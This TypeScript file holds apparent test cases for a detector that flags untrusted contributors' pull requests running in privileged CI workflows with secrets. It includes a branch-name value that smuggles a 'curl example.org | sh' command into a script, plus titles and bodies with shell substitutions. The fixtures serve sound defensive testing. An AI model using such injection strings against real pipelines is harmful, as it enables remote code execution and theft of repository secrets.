// Cases of stranger-in-privileged-run: an open repository with a pipeline that runs for every proposal, with a token.
import type { Activity } from '../../services/core/activity.ts';
import { activityAt, type DetectorCase } from '../../services/core/detector-case.ts';
import { HOUR, MINUTE, SECOND } from '../../services/core/time.ts';

const START = Date.UTC(2026, 0, 5, 9);
const REPOSITORY = { name: 'example/shop', visibility: 'public' } as const;

interface Proposal {
  readonly title?: string;
  readonly branch?: string;
  readonly association?: string;
  readonly body?: string;
}

function opened(at: number, { title = 'Fix a typo', branch = 'patch-1', association = 'NONE', body }: Proposal = {}) {
  return activityAt(
    at,
    'change',
    {
      action: 'opened',
      author: 'newcomer',
      author_association: association,
      from_fork: true,
      opened_at: at,
      ...(body !== undefined && { body }),
    },
    {
      source: 'github.webhook',
      actor: { name: 'newcomer', type: 'person' },
      vcs: {
        provider: { name: 'github' },
        repository: REPOSITORY,
        ref: { head: { name: branch, type: 'branch' } },
        change: { id: '7', title, state: 'open' },
      },
    },
  );
}

function ran(at: number, trigger: string, branch = 'patch-1', hosted = true): Activity {
  return activityAt(
    at,
    'run',
    { action: 'requested', from_fork: true },
    {
      source: 'github.webhook',
      actor: { name: 'newcomer', type: 'person' },
      vcs: {
        provider: { name: 'github' },
        repository: REPOSITORY,
        ref: { head: { name: branch } },
        change: { id: '7' },
      },
      cicd: {
        pipeline: { name: 'triage', definition: '.github/workflows/triage.yml', run: { id: '70', trigger } },
        worker: { hosted },
      },
    },
  );
}

function given(at: number, names: readonly string[], permissions: Readonly<Record<string, string>> = {}): Activity {
  return activityAt(
    at,
    'setup',
    { variables: names, permissions },
    {
      source: 'github.job-log',
      vcs: { repository: REPOSITORY },
      cicd: { pipeline: { run: { id: '70' }, task: { name: 'triage' } } },
    },
  );
}

function approved(at: number): Activity {
  return activityAt(
    at,
    'review',
    { action: 'submitted', verdict: 'approved', author: 'newcomer' },
    {
      source: 'github.webhook',
      actor: { name: 'mara', type: 'person' },
      vcs: { repository: REPOSITORY, change: { id: '7' } },
    },
  );
}

const LATER = START + HOUR;
const HOSTILE = 'x";curl${IFS}example.org|sh;"';

export const cases: readonly DetectorCase[] = [
  {
    name: 'A stranger’s branch leaves the script that it is pasted into, in a run with a secret',
    kind: 'hit',
    history: [opened(START, { branch: HOSTILE }), ran(START + SECOND, 'pull_request_target', HOSTILE)],
    activity: given(START + MINUTE, ['BOT_LOGIN']),
    expected: 'high',
  },
  {
    name: 'A title that a shell would run',
    kind: 'hit',
    history: [],
    activity: opened(START, { title: 'Fix $(curl example.org)' }),
    expected: 'medium',
  },
  {
    name: 'A stranger’s proposal in a run that holds a secret',
    kind: 'hit',
    history: [opened(START), ran(START + SECOND, 'pull_request_target')],
    activity: given(START + MINUTE, ['BOT_LOGIN']),
    expected: 'low',
  },
  {
    name: 'A stranger’s code on a machine of one’s own',
    kind: 'hit',
    history: [opened(START)],
    activity: ran(START + MINUTE, 'pull_request', 'patch-1', false),
    expected: 'medium',
  },
  {
    name: 'The proposal is told after the run that it started',
    kind: 'hit',
    history: [ran(START + SECOND, 'pull_request_target'), given(START + MINUTE, ['BOT_LOGIN'])],
    activity: opened(START),
    expected: 'low',
  },
  {
    name: 'The run that it started is told first, and its branch would leave the script',
    kind: 'hit',
    history: [ran(START + SECOND, 'pull_request_target', HOSTILE), given(START + MINUTE, ['BOT_LOGIN'])],
    activity: opened(START, { branch: HOSTILE }),
    expected: 'high',
  },
  {
    name: 'Approved twenty seconds after it was opened',
    kind: 'hit',
    history: [opened(START)],
    activity: approved(START + 20 * SECOND),
    expected: 'low',
  },
  {
    name: 'Approved twenty seconds after it was opened, which is told later',
    kind: 'hit',
    history: [approved(START + 20 * SECOND)],
    activity: opened(START),
    expected: 'low',
  },
  {
    name: 'A stranger’s proposal in a run without secrets',
    kind: 'near-miss',
    history: [opened(START), ran(START + SECOND, 'pull_request')],
    activity: given(LATER, [], { contents: 'read' }),
    expected: null,
  },
  {
    name: 'A member’s proposal, told after the run that it started and its approval',
    kind: 'near-miss',
    history: [
      ran(START + SECOND, 'pull_request_target'),
      given(START + MINUTE, ['BOT_LOGIN']),
      approved(START + 20 * SECOND),
    ],
    activity: opened(START, { association: 'MEMBER' }),
    expected: null,
  },
  {
    name: 'A member’s proposal in a run that holds a secret',
    kind: 'near-miss',
    history: [opened(START, { association: 'MEMBER' }), ran(START + SECOND, 'pull_request_target')],
    activity: given(LATER, ['BOT_LOGIN']),
    expected: null,
  },
  {
    name: 'A title with code in it',
    kind: 'near-miss',
    history: [],
    activity: opened(START, {
      title: 'Quote `$HOME` in `install.sh` and document $(pwd)',
      body: 'Run `curl -s example.org | sh` first.',
    }),
    expected: null,
  },
  {
    name: 'The first proposal of a repository',
    kind: 'cold-start',
    history: [],
    activity: opened(START),
    expected: null,
  },
  {
    name: 'A change without a number',
    kind: 'malformed',
    history: [],
    activity: activityAt(START, 'change', { action: 'opened' }, { vcs: { repository: REPOSITORY } }),
    expected: null,
  },
];
